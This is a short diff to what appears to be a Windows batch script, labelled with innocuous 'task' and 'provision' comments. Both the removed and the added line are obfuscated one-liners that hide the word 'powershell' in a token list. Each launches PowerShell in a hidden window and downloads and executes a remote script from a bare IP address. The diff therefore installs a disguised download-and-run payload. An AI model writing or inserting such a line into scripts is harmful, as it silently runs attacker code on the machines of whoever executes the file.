@@ -1,2 +1,2 @@
-REM task 6993 v4
-for /f "tokens=3 delims=;" %%i in ("rvug;oofa;powershell") do %%i -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/inv.ps1')"
+REM provision 7119 v4
+for /f "tokens=1 delims=@" %%i in ("powershell@apvv@wcus") do %%i -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"
